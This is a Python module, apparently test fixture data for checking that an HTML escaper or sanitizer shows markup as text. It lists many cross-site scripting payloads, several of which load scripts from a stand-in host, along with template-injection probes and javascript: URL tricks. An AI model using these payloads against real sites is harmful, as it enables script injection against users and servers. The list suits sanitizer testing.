"""Markup that would run, or ask for something elsewhere, if any of it were not shown as the text it is.

The shapes are those of public lists of cross-site scripting, written anew: each renames the document or asks
for an address of ELSEWHERE.
"""

from __future__ import annotations

ELSEWHERE = "http://elsewhere.invalid"
RUN = "document.title='pwned'"

TAGS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT\t>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script src={ELSEWHERE}/a.js></script>",
    f"<script/x>{RUN}</script",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style></noscript></template><script>{RUN}</script>",
    f"--><!--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img/src='x'/onerror=\"{RUN}\"",
    f'<img src="x` `<script>{RUN}</script>"` `>',
    f"<IMG SRC={ELSEWHERE}/p.png>",
    f"<<img src=x onerror={RUN}//<",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<marquee onstart={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<object data={ELSEWHERE}/o></object><embed src={ELSEWHERE}/e>",
    f"<base href={ELSEWHERE}/>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/m'>",
    f"<link rel=stylesheet href={ELSEWHERE}/l.css>",
    f"<style>@import '{ELSEWHERE}/s.css'; *{{background:url({ELSEWHERE}/b)}}</style>",
    f"<form action={ELSEWHERE}/f><button autofocus>x",
)
ATTRIBUTES = (
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
    f"x onfocus={RUN} autofocus tabindex=0 ",
    f'"><svg onload={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"` onfocus={RUN} autofocus x=`",
    f'"/style="background:url({ELSEWHERE}/a)"/x="',
)
SVG = (
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href={ELSEWHERE}/s.js /></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'/></svg>",
)
MUTATIONS = (
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
    f'<a title="&quot;&gt;&lt;img src=x onerror={RUN}&gt;">x</a>',
    f'<xmp><p title="</xmp><svg onload={RUN}>">',
)
ESCAPES = (
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&#x3c;img src=x onerror={RUN}&#x3e;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\\x3cimg src=x onerror={RUN}\\x3e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"＜script＞{RUN}＜/script＞",
    f"‹img src=x onerror={RUN}›",
    f"<\u200bscript>{RUN}</script>",
    f"\u202e<script>{RUN}</script>",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
)
TEMPLATES = (
    "{{ 7*7 }}{{ config }}{{ ''.__class__.__mro__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ self._TemplateReference__context.namespace }}",
    "${7*7}#{7*7}<%= 7*7 %>{{constructor.constructor(\"document.title='pwned'\")()}}",
    "{0.__class__.__init__.__globals__} %(lang)s {n} {limit}",
)
LINKS = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f" javascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript://elsewhere.invalid/%0a{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5kb2N1bWVudC50aXRsZT0ncHduZWQnPC9zY3JpcHQ+",
    f"blob:{ELSEWHERE}/x",
    "//elsewhere.invalid/x",
    "\\\\elsewhere.invalid\\x",
    f"http://[javascript:{RUN}]",
    f'{ELSEWHERE}/"onmouseover="{RUN}',
    f"{ELSEWHERE}/'><script>{RUN}</script>",
)

PAYLOADS = (*TAGS, *ATTRIBUTES, *SVG, *MUTATIONS, *ESCAPES, *TEMPLATES, *LINKS)
